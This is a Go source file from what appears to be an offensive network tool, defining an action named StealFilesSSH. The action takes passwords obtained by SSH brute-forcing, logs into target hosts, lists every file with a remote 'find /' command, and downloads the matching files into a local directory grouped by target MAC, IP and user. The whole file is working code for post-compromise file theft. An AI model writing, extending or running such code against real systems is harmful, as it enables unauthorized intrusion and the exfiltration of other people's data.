package actions

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"neohunter/internal/core/model"
	"neohunter/internal/core/scanner/brute"
	"neohunter/internal/core/scanner/brute/protocol"
	"neohunter/internal/pkg/logger"
)

// StealFilesSSH 使用 SSH 爆破得到的凭据拉取匹配文件
type StealFilesSSH struct {
	store *brute.CredentialStore
	deps  Deps
}

func NewStealFilesSSH(store *brute.CredentialStore, deps Deps) *StealFilesSSH {
	return &StealFilesSSH{store: store, deps: deps}
}

func (a *StealFilesSSH) Execute(ctx context.Context, ip string, port int, record *model.TargetRecord, key string) model.Outcome {
	cfg := a.deps.config()
	creds := uniqueCredentials(credentialsFor(a.store, ip))
	if len(creds) == 0 {
		logger.Warnf("%s: no credentials found for %s", key, ip)
		return model.OutcomeFailed
	}

	wd := startWatchdog(stealWatchdog(cfg), fmt.Sprintf("%s %s", key, ip))
	defer wd.Stop()

	matcher := newFileMatcher(cfg.Steal)
	maxDepth := 0
	if cfg.Steal != nil {
		maxDepth = cfg.Steal.MaxDepth
	}
	start := time.Now()

	for _, cred := range creds {
		if ctx.Err() != nil || wd.Stopped() {
			break
		}

		dialCtx, cancel := context.WithTimeout(ctx, 10*time.Second)
		client, err := protocol.DialSSH(dialCtx, ip, port, cred)
		cancel()
		if err != nil {
			logger.Debugf("%s: ssh login %s@%s failed: %v", key, cred.User, ip, err)
			continue
		}
		wd.MarkConnected()

		dir := stolenDir(cfg, "ssh", record.MAC, ip, cred.User)
		n := a.stealWith(ctx, client, matcher, maxDepth, dir, wd)
		client.Close()

		if n > 0 {
			logger.LogActionOperation(key, ip, "success", time.Since(start), map[string]interface{}{
				"user":  cred.User,
				"files": n,
			})
			return model.OutcomeSuccess
		}
	}

	logger.Warnf("%s: no files retrieved from %s:%d", key, ip, port)
	return model.OutcomeFailed
}

func (a *StealFilesSSH) stealWith(ctx context.Context, client *ssh.Client, m fileMatcher, maxDepth int, dir string, wd *watchdog) int {
	cmd := "find / -type f 2>/dev/null"
	if maxDepth > 0 {
		cmd = fmt.Sprintf("find / -maxdepth %d -type f 2>/dev/null", maxDepth)
	}
	out, err := runRemote(ctx, client, cmd, nil)
	if err != nil {
		logger.Warnf("Remote file listing failed: %v", err)
		return 0
	}

	n := 0
	for _, remote := range strings.Split(string(out), "\n") {
		remote = strings.TrimSpace(remote)
		if remote == "" || !m.Match(remote) {
			continue
		}
		if ctx.Err() != nil || wd.Stopped() {
			break
		}
		if err := downloadSSH(ctx, client, remote, localPath(dir, remote)); err != nil {
			logger.Warnf("Failed to download %s: %v", remote, err)
			continue
		}
		logger.Infof("Downloaded %s to %s", remote, localPath(dir, remote))
		n++
	}
	return n
}

func downloadSSH(ctx context.Context, client *ssh.Client, remote, local string) error {
	if err := os.MkdirAll(filepath.Dir(local), 0755); err != nil {
		return err
	}
	f, err := os.Create(local)
	if err != nil {
		return err
	}
	if _, err := runRemote(ctx, client, "cat "+shellQuote(remote), f); err != nil {
		f.Close()
		os.Remove(local)
		return err
	}
	return f.Close()
}

// runRemote 执行远程命令；stdout 为空时返回输出
// find 遇到无权限目录会以非零退出，此时输出仍然有效
func runRemote(ctx context.Context, client *ssh.Client, cmd string, stdout *os.File) ([]byte, error) {
	session, err := client.NewSession()
	if err != nil {
		return nil, err
	}
	defer session.Close()

	var buf bytes.Buffer
	if stdout != nil {
		session.Stdout = stdout
	} else {
		session.Stdout = &buf
	}

	done := make(chan error, 1)
	go func() { done <- session.Run(cmd) }()

	select {
	case <-ctx.Done():
		session.Close()
		return nil, ctx.Err()
	case err := <-done:
		var exitErr *ssh.ExitError
		if err != nil && !(stdout == nil && errors.As(err, &exitErr)) {
			return nil, err
		}
		return buf.Bytes(), nil
	}
}

func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

func uniqueCredentials(records []model.CrackedRecord) []model.Credential {
	seen := make(map[model.Credential]struct{})
	var out []model.Credential
	for _, r := range records {
		c := model.Credential{User: r.User, Password: r.Password}
		if _, ok := seen[c]; ok {
			continue
		}
		seen[c] = struct{}{}
		out = append(out, c)
	}
	return out
}
